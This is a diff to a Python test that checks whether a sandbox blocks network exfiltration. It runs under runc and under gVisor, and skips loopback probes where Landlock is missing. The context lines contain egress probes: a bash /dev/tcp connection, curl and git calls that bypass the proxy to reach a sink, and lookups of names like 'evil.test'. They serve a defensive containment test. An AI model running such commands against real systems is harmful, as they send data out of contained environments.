@@ -94,9 +94,10 @@ for r in range(ROUNDS):
         attempt("udp %s:53" % addr, lambda: udp(addr, 53))
     for name in ("example.com", "evil.test", "origin.test", "exfil-%d.example.org" % r):
         attempt("dns " + name, lambda: socket.getaddrinfo(name, 443))
-    # Another loopback port than the proxy's (a listener root started there): Landlock refuses.
-    attempt("loopback port 8765", lambda: tcp("127.0.0.1", 8765))
-    attempt("bind a listener", lambda: socket.create_server(("127.0.0.1", 0)))
+    if cfg["landlock"]:
+        # Another loopback port than the proxy's (a listener root started there): Landlock refuses.
+        attempt("loopback port 8765", lambda: tcp("127.0.0.1", 8765))
+        attempt("bind a listener", lambda: socket.create_server(("127.0.0.1", 0)))
     attempt("bash /dev/tcp", lambda: run("exec 3<>/dev/tcp/%s/%d" % (ADDRS[0], SINK)))
     attempt("curl without proxy", lambda: run("curl -sS --noproxy '*' -m 5 http://%s:%d/" % (ADDRS[0], SINK)))
     attempt("git without proxy", lambda: run("git -c http.proxy= ls-remote http://%s:%d/x.git" % (ADDRS[0], SINK)))
@@ -130,10 +131,15 @@ print("RESULTS " + json.dumps(results))
 '''
 
 
-async def test_exfiltration_attempts_with_every_approval_denied(ert: Runtime, origin: Origin, sink: Sink) -> None:
+@pytest.mark.parametrize("gvisor", [False, True], ids=["runc", "gvisor"])
+async def test_exfiltration_attempts_with_every_approval_denied(
+    ert: Runtime, origin: Origin, sink: Sink, gvisor: bool
+) -> None:
+    """Under gVisor (no Landlock) the two attempts on the container's own loopback are left
+    out: nothing stops a command there from reaching another port of its own container."""
     p, h = origin.https_port, origin.http_port
     approver = Approver("deny")
-    session = await open_tooled(ert, origin, [f"origin.test:{p}", f"origin.test:{h}"], approver)
+    session = await open_tooled(ert, origin, [f"origin.test:{p}", f"origin.test:{h}"], approver, gvisor=gvisor)
     try:
         # A listener on another loopback port, started by root outside any Landlock domain.
         await session.spawn("python3 -m http.server 8765 --bind 127.0.0.1", user="root")
@@ -147,7 +153,7 @@ async def test_exfiltration_attempts_with_every_approval_denied(ert: Runtime, or
         assert probe.exit_code == 0, "control: root's listener on loopback 8765 is up, unconfined root reaches it"
         origin.seen.clear()
         sink.tcp_hits = sink.udp_hits = 0
-        config = {"https": p, "http": h, "sink": sink.port, "addrs": host_addresses()}
+        config = {"https": p, "http": h, "sink": sink.port, "addrs": host_addresses(), "landlock": not gvisor}
         script = ATTACK.replace("ROUNDS", str(ROUNDS))
         await session.write_file("/workspace/attack.py", script)
         code, out = await bash(session, f"python3 attack.py '{json.dumps(config)}'", timeout=600)
@@ -163,7 +169,7 @@ async def test_exfiltration_attempts_with_every_approval_denied(ert: Runtime, or
         names = [name for name in origin.seen.server_names if name != "origin.test"]
         landed = len(succeeded) + sink.tcp_hits + sink.udp_hits + len(strays) + len(names)
         print(
-            f"egress attacks: tried {len(results)}, landed {landed} (succeeded {succeeded}, sink tcp {sink.tcp_hits}, "
+            f"egress attacks ({'gvisor' if gvisor else 'runc'}): tried {len(results)}, landed {landed} (succeeded {succeeded}, sink tcp {sink.tcp_hits}, "
             f"udp {sink.udp_hits}, other Hosts at the servers {strays}, other TLS names {names})"
         )
         assert landed == 0
